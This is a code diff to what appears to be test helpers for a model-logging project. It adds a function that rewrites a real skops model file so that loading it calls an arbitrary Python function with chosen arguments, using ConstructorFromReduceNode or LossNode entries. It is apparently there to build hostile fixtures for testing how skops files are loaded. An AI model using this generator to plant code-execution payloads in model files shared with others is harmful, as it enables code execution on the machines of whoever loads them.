@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import uuid
+import zipfile
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -125,3 +127,78 @@ def log_traffic(
     )
     store.write_predictions(records)
     return records
+
+
+def _json_node(value: Any) -> dict[str, Any]:
+    return {
+        "__class__": "str",
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+    }
+
+
+def _tuple_node(values: list[Any]) -> dict[str, Any]:
+    return {
+        "__class__": "tuple",
+        "__module__": "builtins",
+        "__loader__": "TupleNode",
+        "content": [_json_node(v) for v in values],
+    }
+
+
+def hostile_skops(
+    source: Path,
+    target: Path,
+    call: str,
+    args: list[Any],
+    *,
+    loader: str = "ConstructorFromReduceNode",
+) -> Path:
+    """Copy the real skops file ``source`` to ``target`` with the first attribute of its top
+    object replaced by a node that calls ``call`` (``module.name``) with ``args`` when loaded.
+
+    ``loader`` picks the skops node that makes the call: ``ConstructorFromReduceNode`` calls
+    its type with the content tuple; ``LossNode`` calls it with its ``__reduce__`` args.
+    """
+    module, name = call.rsplit(".", 1)
+    if loader == "ConstructorFromReduceNode":
+        payload = {
+            "__class__": name,
+            "__module__": module,
+            "__loader__": loader,
+            "content": _tuple_node(args),
+        }
+    elif loader == "LossNode":
+        payload = {
+            "__class__": name,
+            "__module__": module,
+            "__loader__": loader,
+            "__reduce__": {"args": _tuple_node(args)},
+            "content": {
+                "__class__": "dict",
+                "__module__": "builtins",
+                "__loader__": "DictNode",
+                "content": {},
+                "key_types": {
+                    "__class__": "list",
+                    "__module__": "builtins",
+                    "__loader__": "ListNode",
+                    "content": [],
+                },
+            },
+        }
+    else:
+        raise ValueError(f"no payload for loader {loader!r}")
+    with zipfile.ZipFile(source) as original:
+        members = {item: original.read(item) for item in original.namelist()}
+    schema = json.loads(members["schema.json"])
+    attributes = schema["content"]["content"]
+    first = next(iter(attributes))
+    attributes[first] = payload
+    members["schema.json"] = json.dumps(schema).encode("utf-8")
+    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as rewritten:
+        for item, data in members.items():
+            rewritten.writestr(item, data)
+    return target
